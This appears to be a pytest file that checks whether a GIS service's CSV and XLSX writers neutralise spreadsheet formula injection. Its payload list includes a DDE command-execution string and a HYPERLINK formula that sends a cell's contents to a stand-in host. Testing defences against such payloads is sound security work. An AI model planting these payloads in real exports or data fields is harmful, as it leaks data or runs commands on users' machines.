"""Spreadsheet formula injection: every CSV and XLSX the service writes neutralises text
that a spreadsheet would run as a formula, types XLSX text as text, and keeps numbers
as numbers. Every writer goes through gis_service/file_intake/tables.py; a new one elsewhere
fails the last test."""

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from gis_service.file_intake.tables import cell, write_csv, write_xlsx

PAYLOADS = [
    '=HYPERLINK("http://x/?"&B1,"详见附件")',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\tTAB",
    "\rCR",
]
PACKAGE = Path(__file__).resolve().parents[2] / "gis_service"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_becomes_text(payload):
    assert cell(payload) == "'" + payload


def test_numbers_and_plain_text_stay_as_they_are():
    assert [cell(v) for v in (12, -3.5, 0, None, "东胜区", "a=b", True)] == [
        12,
        -3.5,
        0,
        "",
        "东胜区",
        "a=b",
        "true",
    ]


def test_the_shared_writers():
    rows = [[p, -7, 1.5] for p in PAYLOADS]
    text = write_csv(["text", "n", "x"], rows).decode("utf-8-sig")
    read = list(csv.reader(io.StringIO(text)))[1:]
    assert [r[0] for r in read] == ["'" + p for p in PAYLOADS] and read[0][1:] == ["-7", "1.5"]
    ws = load_workbook(io.BytesIO(write_xlsx(["text", "n", "x"], rows, title="t"))).active
    for row in ws.iter_rows(min_row=2):
        assert row[0].data_type == "s" and row[0].value.startswith("'")
        assert row[1].value == -7 and row[1].data_type == "n"


def test_a_layer_export_neutralises_a_stored_formula(client, auth, db):
    code, line = db.execute(
        "SELECT code, line_code FROM boundary_marker ORDER BY code DESC LIMIT 1"
    ).fetchone()
    db.execute("UPDATE boundary_marker SET material = %s WHERE code = %s", ("=cmd|'/C calc'!A0", code))
    db.commit()
    try:
        r = client.get(
            "/api/v1/layers/boundary_marker/export.csv", params={"line_code": line}, headers=auth("viewer")
        )
        rows = {row[0]: row for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig")))}
        header = list(rows.values())[0]
        assert rows[code][header.index("material")] == "'=cmd|'/C calc'!A0"
        assert rows[code][header.index("seq")].isdigit()  # numbers are not quoted
    finally:
        db.execute("UPDATE boundary_marker SET material = 'granite' WHERE code = %s", (code,))
        db.commit()


def test_a_joint_inspection_report_neutralises_a_finding(client, auth):
    h = auth("inspector")
    rid = client.post(
        "/api/v1/joint-inspections",
        json={"line_code": "150602-150603", "planned_on": "2026-10-01"},
        headers=h,
    ).json()["id"]
    finding = PAYLOADS[0]
    assert (
        client.post(
            f"/api/v1/joint-inspections/{rid}/findings", json={"finding": finding}, headers=h
        ).status_code
        == 201
    )
    text = client.get(f"/api/v1/joint-inspections/{rid}/report.csv", headers=h).content.decode("utf-8-sig")
    assert "'" + finding in [c for row in csv.reader(io.StringIO(text)) for c in row]
    ws = load_workbook(
        io.BytesIO(client.get(f"/api/v1/joint-inspections/{rid}/report.xlsx", headers=h).content)
    ).active
    cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and finding in c.value]
    assert cells and all(c.data_type == "s" and c.value == "'" + finding for c in cells)


def test_every_table_writer_goes_through_file_intake_tables():
    writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|Workbook\(|\.to_csv\(|\.to_excel\(")
    found = [
        str(p.relative_to(PACKAGE))
        for p in PACKAGE.rglob("*.py")
        if writers.search(p.read_text(encoding="utf-8"))
    ]
    # reference_data/packages.py and registry.py write reference folders for setup, not files for users
    assert sorted(found) == [
        "file_intake/tables.py",
        "joint_inspections/report.py",
        "reference_data/packages.py",
        "reference_data/registry.py",
    ]
    report = (PACKAGE / "joint_inspections" / "report.py").read_text(encoding="utf-8")
    assert "tables.append_xlsx_row" in report and "csv.writer" not in report
